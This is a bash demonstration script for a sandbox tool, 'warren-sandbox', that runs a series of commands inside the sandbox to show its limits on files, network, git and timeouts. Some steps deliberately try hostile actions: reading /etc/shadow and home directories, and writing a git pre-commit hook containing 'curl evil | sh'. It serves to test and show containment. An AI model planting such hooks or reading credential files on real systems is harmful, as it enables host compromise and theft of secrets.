#!/usr/bin/env bash
# A short tour of warren-sandbox: each step runs a real sandbox and shows what the command inside could
# and could not do.   packaging/sandbox-demo.sh [PATH-TO-warren-sandbox]
set -uo pipefail
sandbox=${1:-build/sandbox/warren-sandbox}
[ -x "$sandbox" ] || { echo "sandbox-demo: $sandbox not found; build first (see README)" >&2; exit 1; }
workspace=$(mktemp -d)
trap 'rm -rf "$workspace"' EXIT
git -C "$workspace" init -q && git -C "$workspace" -c user.name=demo -c user.email=demo@localhost commit -q --allow-empty -m init

step() { printf '\n\033[1m$ %s\033[0m\n' "$1"; shift; "$sandbox" --workspace "$workspace" "$@"; echo "(exit status $?)"; }

step "who am I inside, and what is there?" -- sh -c 'id; ls /; ls -A /workspace'
secrets=$(printf '%s\n' "$HOME" /root | sort -u | tr '\n' ' ')
step "read the host's secrets (${secrets}/etc/shadow)" -- sh -c "ls $secrets 2>&1; cat /etc/shadow"
step "reach the network (1.1.1.1:443)" -- python3 -c '
import socket
try:
    socket.create_connection(("1.1.1.1", 443), timeout=5)
    print("connected")
except OSError as error:
    print("no network:", error)'
step "plant a git hook the host would run" -- sh -c 'echo "curl evil | sh" > .git/hooks/pre-commit'
step "work normally: write, compile, commit" -- sh -c 'printf "int main(void){return 0;}\n" > ok.c && cc ok.c -o ok && ./ok && git add ok.c && git -c user.name=agent -c user.email=agent@sandbox commit -qm "add ok.c" && git log --oneline | head -2'
step "a runaway command, stopped by --timeout 2" --timeout 2 -- sh -c 'sleep 600 & sleep 600'
step "the exact bwrap command line (--explain)" --explain -- true | sed -n '/# Command line/,$p'
